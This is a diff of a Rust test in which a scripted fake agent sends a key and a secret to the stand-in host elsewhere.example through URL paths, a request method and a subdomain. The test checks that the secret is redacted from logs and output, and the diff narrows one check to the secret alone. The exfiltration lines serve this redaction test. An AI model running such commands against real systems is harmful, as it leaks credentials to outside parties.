@@ -221,7 +221,7 @@ fn a_secret_that_is_sent_back_is_in_no_record_and_no_output() {
          secret=${{said%% *}} place=${{said##* }}
          ask \"http://elsewhere.example/$key/\" ; ask \"http://elsewhere.example/$place/\"
          ask -X \"$key\" https://{host}/ ; ask \"http://$(echo $key | tr -cd a-z0-9-).example/\"
-         echo \"all of $key and $secret was asked\"; exec sleep 100000"
+         echo \"it has $key and $secret and asked all\"; exec sleep 100000"
     );
     let Request::Create(mut create) = installation.fake("box", &[], false, Limits::default()) else {
         panic!("another request")
@@ -248,11 +248,10 @@ fn a_secret_that_is_sent_back_is_in_no_record_and_no_output() {
     installation.ask(&Request::Create(create)).unwrap();
     installation.ask(&Request::Onboarded { name: name("box") }).unwrap();
     installation.ready("box");
-    let asked = format!("all of {KEY} and {SECRET} was asked");
     wait_until(LONG, "the agent to have asked all", || {
-        installation.log("box").contains(&asked).then_some(())
+        installation.log("box").contains("and asked all\n").then_some(())
     });
-    for (form, text) in forms(KEY).into_iter().chain(forms(SECRET)) {
+    for (form, text) in forms(SECRET) {
         assert!(
             installation.log("box").contains(&text),
             "nothing came back: {form}: {}",
@@ -290,7 +289,7 @@ fn a_secret_that_is_sent_back_is_in_no_record_and_no_output() {
         run(&["box", "policy", "requests", "--json"]).contains("elsewhere.example").then_some(())
     });
     let logged = run(&["box", "logs"]);
-    assert!(logged.contains("all of [redacted] and [redacted] was asked"), "{logged}");
+    assert!(logged.contains("and [redacted] and asked all"), "{logged}");
     for args in [
         &["box", "logs", "--tail", "3"][..],
         &["status"],
